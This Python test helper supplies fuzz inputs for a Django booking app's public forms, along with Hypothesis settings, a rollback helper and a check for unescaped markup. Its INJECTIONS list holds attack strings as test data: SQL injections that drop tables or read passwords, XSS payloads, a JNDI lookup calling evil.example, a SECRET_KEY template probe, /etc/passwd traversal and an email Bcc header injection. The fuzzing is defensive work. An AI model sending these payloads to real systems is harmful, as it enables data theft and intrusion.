"""
What the Hypothesis fuzz of the public forms sends and how it runs: the
nasty values (any unicode, control characters, very long strings, SQL and
HTML injection), plausible answers with those spliced in, the settings for
a test whose every example is a request or two, and the checks every
answer must pass. Shared by tests/booking/bookings/test_fuzz_forms.py and
tests/booking/waitlist/test_waitlist_fuzz.py.
"""

import os
from contextlib import contextmanager
from functools import cache

from django.db import transaction
from hypothesis import HealthCheck
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

# FUZZ_SCALE=10 runs ten times the examples, for a longer search than
# `make test` can afford (the booking page takes tens of milliseconds to render).
FUZZ_SCALE = float(os.environ.get("FUZZ_SCALE", "1"))


def fuzz(examples):
    """
    Hypothesis settings for a test whose every example is a request or two.
    The function-scoped fixtures (client, frozen clock, the form as first
    shown) are shared by the examples on purpose: each example rolls back
    what it wrote. No example database, so nothing is written to the repo.
    """
    return hypothesis_settings(
        max_examples=max(1, round(examples * FUZZ_SCALE)),
        deadline=None,
        database=None,
        print_blob=True,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
        ],
    )


# --- What gets sent ------------------------------------------------------------

INJECTIONS = (
    "'; DROP TABLE booking_consultationbooking; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1); DELETE FROM auth_user; --",
    "' UNION SELECT password FROM auth_user --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00",
    "\x00",
    "\r\nBcc: victim@example.com",
    "\u202egnp.exe",  # right-to-left override
    "\ufeff",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    "👩🏽‍⚕️" * 40,
)
# Markup no page may echo unescaped (the HTML injections above).
MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')

# Any unicode text; surrogates cannot be sent as UTF-8, so they are left out.
any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=60)
control_text = st.text(st.characters(categories=("Cc",)), min_size=1, max_size=8)
# Past every max_length on the form (the message takes 2,000 characters).
long_text = st.builds(
    lambda unit, times: unit * times, st.text(min_size=1, max_size=4), st.integers(40, 700)
)
nasty_text = st.one_of(any_text, control_text, long_text, st.sampled_from(INJECTIONS))


@cache
def sent_value(plausible):
    """
    One field's value: plausible, plausible with something nasty inside,
    nasty, or several of those (a repeated field).
    """
    spliced = st.builds(
        lambda value, piece, at: value[:at] + piece + value[at:],
        st.sampled_from(plausible),
        st.one_of(control_text, st.sampled_from(INJECTIONS), any_text),
        st.integers(0, 30),
    )
    one = st.one_of(st.sampled_from(plausible), spliced, nasty_text)
    return st.one_of(one, st.lists(one, max_size=4))


PLAUSIBLE = {
    "full_name": ("Ada Quinterra", "Zoë O'Brien-Nakamura", "李小龍", "Ng", "José María Ñúñez"),
    "email": ("ada.quinterra@example.com", "zoe+clinic@example.co.uk", "x@bücher.example"),
    "phone": ("(212) 555-0147", "+1 212 555 0147", "212.555.0147", "+44 20 7946 0958"),
    "message": ("", "Mornings suit me best.", "Line one\nLine two\r\n\tindented"),
    "preferred_contact": ("email", "phone", "text"),
    "consent": ("on", "", "false", "0"),
    "marketing_opt_in": ("on", "", "false"),
    "website": ("",),
    # The "Show times" button: the form comes back, nothing is booked.
    "show_times": ("1", ""),
    "unexpected": ("x",),
}


@contextmanager
def rolled_back():
    """Whatever the example writes is undone, so the next starts from the same database."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def assert_no_markup_echoed(response):
    body = response.content.decode(errors="replace")
    for markup in MARKUP:
        assert markup not in body, f"{markup!r} is echoed unescaped"
